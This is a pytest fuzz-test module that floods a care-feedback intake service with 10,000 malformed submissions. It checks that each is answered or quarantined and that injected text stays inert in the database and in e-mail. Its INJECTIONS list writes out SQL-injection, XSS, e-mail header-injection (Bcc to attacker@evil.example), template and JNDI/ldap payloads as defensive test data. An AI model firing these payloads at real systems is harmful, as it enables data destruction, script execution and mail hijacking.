"""Hostile input in bulk (``make test-fuzz``; CI runs a bounded run).

At least 10,000 generated bad or odd submissions go to intake over AMQP. Every one must be
accepted or quarantined with a reason: no crash, no stuck consumer, no silent drop. SQL, HTML
and header injection in free text must come out inert in the database and in e-mail.
CAREWATCH_FUZZ_COUNT sets the number of submissions (default 10,000).
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import uuid
from collections.abc import AsyncIterator
from typing import Any

import aio_pika
import asyncpg
import pytest

from services.catalogue import SERVICES, builder
from services.intake.validation import submission_id
from shared.runtime import ServiceRuntime
from shared.settings import Settings
from tests.helpers import Inbox, eventually, example, smtp_server

pytestmark = pytest.mark.fuzz
COUNT = int(os.environ.get("CAREWATCH_FUZZ_COUNT", "10000"))
EXAMPLES = [example(n)["body"] for n in ("serious-complaint.json", "routine-complaint.json",
                                         "safeguarding-concern.json")]
INJECTIONS = [
    "'); DROP TABLE intake.feedback; --",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "Robert\r\nBcc: attacker@evil.example\r\nSubject: pwned",
    "{{ 7*7 }} {% for x in range(9) %}${jndi:ldap://x}",
    "\u202eevil\u200b\ufeff zero-width and bidi",
    "💥" * 50,
]


def odd_value(rng: random.Random) -> Any:
    return rng.choice([None, True, -1, 10**30, 1.5e308, "", " ", "x" * 5000, [], {},
                       [1, [2, [3]]], {"a": {"b": {"c": None}}}, "2031-01-01", "1800-02-30",
                       "NaN", rng.choice(INJECTIONS), "\u0000", "é" * 100])


def hostile(rng: random.Random, i: int) -> tuple[bytes, str | None]:
    """One odd or bad submission body and its content type."""
    base = dict(rng.choice(EXAMPLES))
    base["record_id"] = f"FUZZ-{i:06d}"
    roll = rng.random()
    if roll < 0.05:
        return bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 300))), "application/json"
    if roll < 0.07:
        return b"{" * rng.randrange(100, 5000), "application/json"
    if roll < 0.08:
        return json.dumps({**base, "description": "y" * 1_100_000}).encode(), "application/json"
    if roll < 0.10:
        return json.dumps(base).encode(), rng.choice(["text/xml", "application/octet-stream",
                                                      "multipart/form-data"])
    if roll < 0.12:
        return json.dumps(base).encode("utf-16"), "application/json"
    if roll < 0.20:
        return json.dumps({**base, "kind": rng.choice(["tweet", "", None, 7, "COMPLAINT"])
                           }).encode(), "application/json"
    if roll < 0.26:
        return json.dumps({**base, "ods_code": rng.choice(["ZZZ99", "rj1", "", "RJ1;--", 5])
                           }).encode(), "application/json"
    if roll < 0.45:
        # Injection in free text of an otherwise valid submission: must be accepted, inert.
        return json.dumps({**base, "description": rng.choice(INJECTIONS) + " " +
                           base["description"][:200]}).encode(), "application/json"
    mutated = dict(base)
    for _ in range(rng.randrange(1, 4)):
        key = rng.choice(sorted(mutated))
        action = rng.random()
        if action < 0.3 and key != "record_id":
            del mutated[key]
        elif action < 0.8:
            mutated[key] = odd_value(rng)
        else:
            mutated[rng.choice(["extra", "__proto__", "kind ", "ods code"])] = odd_value(rng)
    return json.dumps(mutated).encode(), rng.choice(["application/json", None])


@pytest.fixture(scope="module")
async def intake(settings: Settings) -> AsyncIterator[ServiceRuntime]:
    runtime = builder("intake")(settings)
    await runtime.start()
    yield runtime
    await runtime.stop()


async def test_every_hostile_submission_is_answered(
        intake: ServiceRuntime, settings: Settings, db: asyncpg.Pool,
        amqp: aio_pika.abc.AbstractConnection) -> None:
    rng = random.Random(20261122)
    run = uuid.uuid4().hex[:8]
    sent: dict[str, tuple[bytes, str | None]] = {}
    channel = await amqp.channel(publisher_confirms=True, on_return_raises=True)
    exchange = await channel.get_exchange(f"{settings.namespace}.submissions")
    for start in range(0, COUNT, 500):
        batch = []
        for i in range(start, min(COUNT, start + 500)):
            body, content_type = hostile(rng, i)
            message_id = f"{run}-{i}"
            sent[message_id] = (body, content_type)
            batch.append(exchange.publish(
                aio_pika.Message(body, content_type=content_type, user_id="guest",
                                 message_id=message_id,
                                 delivery_mode=aio_pika.DeliveryMode.PERSISTENT),
                routing_key="submission.fuzz.v1", mandatory=True))
        await asyncio.gather(*batch)
    ids = {submission_id("guest", mid, body): mid for mid, (body, _) in sent.items()}

    async def answered() -> int:
        # Every submission gets a receipt: accepted, duplicate (its record id was already
        # accepted) or rejected (then it is in the quarantine with reasons).
        return await db.fetchval(
            "SELECT count(*) FROM intake.receipts WHERE submission_id = ANY($1::uuid[])",
            list(ids))

    try:
        await eventually(lambda: _at_least(answered, len(ids)), timeout=300, interval=1.0,
                         what=f"all {len(ids)} fuzz submissions answered")
    except AssertionError:
        known = {r["submission_id"] for r in await db.fetch(
            "SELECT submission_id FROM intake.receipts WHERE submission_id = ANY($1::uuid[])",
            list(ids))}
        missing = [ids[s] for s in ids if s not in known]
        sample = [(m, sent[m][1], sent[m][0][:200]) for m in missing[:5]]
        raise AssertionError(f"{len(missing)} unanswered, e.g. {sample}") from None
    outcomes = dict(await db.fetch(
        "SELECT outcome, count(*) FROM intake.receipts WHERE submission_id = ANY($1::uuid[])"
        " GROUP BY outcome", list(ids)))
    accepted = await db.fetchval(
        "SELECT count(*) FROM intake.feedback WHERE submission_id = ANY($1::uuid[])", list(ids))
    assert accepted == outcomes.get("accepted", 0)
    reasons = await db.fetch(
        "SELECT reasons FROM intake.quarantine WHERE submission_id = ANY($1::uuid[])", list(ids))
    assert len(reasons) == outcomes.get("rejected", 0), "every rejection is in the quarantine"
    assert all(r["reasons"] and all(x["msg"] and x["type"] for x in r["reasons"])
               for r in reasons), "every rejection has machine-readable reasons"
    queue = await channel.declare_queue(f"{settings.namespace}.intake.submissions", passive=True)
    dlq = await channel.declare_queue(f"{settings.namespace}.intake.submissions.dlq",
                                      passive=True)
    assert queue.declaration_result.consumer_count == 1, "the consumer is still consuming"
    assert queue.declaration_result.message_count == 0, "nothing stuck in the queue"
    assert dlq.declaration_result.message_count == 0, "bad input is quarantined, not poison"
    # Injection stays data: the tables are intact and the text is stored as sent.
    assert await db.fetchval("SELECT to_regclass('intake.feedback') IS NOT NULL")
    stored = await db.fetchval(
        "SELECT count(*) FROM intake.feedback WHERE submission_id = ANY($1::uuid[])"
        " AND content->>'description' LIKE '%DROP TABLE intake.feedback%'", list(ids))
    print(f"\nfuzz: {len(ids)} submissions: {accepted} accepted,"
          f" {outcomes.get('duplicate', 0)} duplicates, {len(reasons)} quarantined with reasons,"
          f" {stored} SQL injections stored verbatim as text, 0 dead-lettered")
    assert stored > 0
    await channel.close()


async def _at_least(probe: Any, target: int) -> bool:
    return await probe() >= target


@pytest.fixture(scope="module")
async def pipeline(settings: Settings) -> AsyncIterator[Inbox]:
    controller, inbox = smtp_server(settings.smtp_port)
    runtimes = [builder(name)(settings) for name in SERVICES if name != "intake"]
    for runtime in runtimes:
        await runtime.start()
    yield inbox
    for runtime in runtimes:
        await runtime.stop()
    controller.stop()


async def test_injection_in_free_text_is_inert_in_email(
        intake: ServiceRuntime, pipeline: Inbox, settings: Settings, db: asyncpg.Pool,
        amqp: aio_pika.abc.AbstractConnection) -> None:
    from tests.helpers import publish_submission

    hostile_text = " ".join(INJECTIONS[:3])
    body = {**example("serious-complaint.json")["body"], "ods_code": "RP4",
            "record_id": f"INJ-{uuid.uuid4().hex[:8]}",
            "description": hostile_text + " My father died after a fall on the ward."}
    await publish_submission(amqp, settings.namespace, body)
    row = await eventually(lambda: db.fetchrow(
        "SELECT * FROM intake.feedback WHERE provider_record_id = $1", body["record_id"]))
    assert INJECTIONS[0] in row["content"]["description"]  # stored as data, verbatim
    mails = await eventually(lambda: _mails_for(pipeline, "quality.rp4@provider.example"),
                             timeout=180, what="invitation for the hostile complaint")
    for msg in mails:
        assert msg["Bcc"] is None and "attacker@evil.example" not in str(msg["To"])
        assert "\n" not in str(msg["Subject"]) and "pwned" not in str(msg["Subject"])
        for part in msg.walk():
            if part.get_content_type() == "text/html":
                html = part.get_content().lower()
                assert "<script" not in html and "<img" not in html


async def _mails_for(inbox: Inbox, address: str) -> list[Any]:
    return inbox.to(address)
